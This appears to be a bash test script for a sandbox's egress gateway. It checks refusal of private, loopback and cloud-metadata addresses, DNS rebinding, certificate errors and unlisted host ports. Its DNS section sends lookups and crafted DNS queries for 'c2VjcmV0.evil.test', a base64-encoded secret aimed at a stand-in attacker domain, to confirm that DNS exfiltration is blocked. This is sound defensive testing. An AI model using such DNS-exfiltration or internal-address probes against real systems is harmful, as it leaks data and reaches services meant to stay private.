#!/usr/bin/env bash
# Names that are allowed but lead where nothing may go; names that are not resolved at all.
names=(allowed.test private.test hostlan.test loopback.test metadata.test mixed.test rebind.test rebind-lan.test mapped.test
    nat64.test loopback-six.test cname-private.test unspecified.test registry.test selfsigned.test expired.test wrongname.test
    cname.test six.test tcp.test servfail.test nothing.test silent.test)
GATEWAY_OPTIONS=(--exception registry.test:443 --service 8099 --allow host.belljar.internal:8099,http,, --allow host.belljar.internal:6379,http,,)
for name in "${names[@]}"; do GATEWAY_OPTIONS+=(--allow "$name,," --allow "$name,http,"); done
GATEWAY_OPTIONS+=(--allow 'registry.test:80,http,')
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

# Names of addresses that are not public.
for name in private hostlan loopback metadata mapped nat64 loopback-six cname-private unspecified; do
    assert_refused 403 "$name.test leads to .*(not public|this host)" "http://$name.test/"
    assert_refused 403 "$name.test leads to .*(not public|this host)" "https://$name.test/"
done
for receiver in neighbour neighbour-raw metadata metadata-raw host-lan host-loopback host-any; do receiver_silent "$receiver"; done

# Of several addresses only the public ones are dialled.
assert_passes https://mixed.test/mixed
receiver_got allowed '"sni": "mixed.test"'
receiver_silent neighbour

# Rebinding: what was checked is what is dialled, each time.
for name in rebind.test rebind-lan.test; do
    fetch -H 'Connection: close' "https://$name.test/" || true
    for try in 1 2 3; do fetch "http://$name/"; done
done
receiver_silent host-loopback
receiver_silent host-lan
receiver_silent host-any

# The exception is for that name and port only.
assert_passes https://registry.test/belljar-fixture-bell
assert_refused 403 'registry.test leads to' http://registry.test/

# Named services of the host and no others.
fetch http://host.belljar.internal:8099/service
receiver_got host-loopback 'GET /service'
assert_refused 403 '' http://host.belljar.internal:6379/
assert_refused 403 '' http://host.belljar.internal/

# Other ways to an address.
assert_passes https://cname.test/
assert_passes https://six.test/
assert_passes https://tcp.test/

# Certificates that the host would not trust.
for name in selfsigned expired wrongname; do
    assert_refused 502 "certificate" "https://$name.test/"
    receiver_silent "$name" '"event": "request"'
done

# Names without an address, and name servers that do not answer.
assert_refused 502 'nothing.test has no address' https://nothing.test/
assert_refused 502 'servfail.test' https://servfail.test/
assert_refused 504 'silent.test' https://silent.test/

# The jar's own queries go nowhere.
receiver_forget dns
getent ahostsv4 c2VjcmV0.evil.test > /dev/null
getent ahostsv4 never-asked.evil.test > /dev/null
receiver_silent dns 'evil.test'

# Other types of query have no data, over UDP and TCP, whatever server is asked.
python3 - <<'END'
import socket, struct
def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
def check(answer, answers):
    flags, counts = struct.unpack(">H", answer[2:4])[0], struct.unpack(">4H", answer[4:12])
    assert flags & 15 == 0 and counts[1] == answers, (flags, counts)
for name in ("allowed.test", "c2VjcmV0.evil.test"):
    for kind, answers in ((1, 1), (16, 0), (28, 0), (15, 0), (65, 0)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(5)
            udp.sendto(query(name, kind), ("10.7.0.1" if kind != 16 else "93.184.216.12", 53))
            check(udp.recv(4096), answers)
        with socket.create_connection(("93.184.216.12", 53), 5) as tcp:
            message = query(name, kind)
            tcp.sendall(struct.pack(">H", len(message)) + message)
            check(tcp.recv(4096)[2:], answers)
END
receiver_silent dns 'evil.test'
receiver_silent evil-raw
logged '^proxy .*deny .*c2vjcmv0.evil.test'
logged '^egress .*deny .*private.test .*leads to 10.7.0.9'
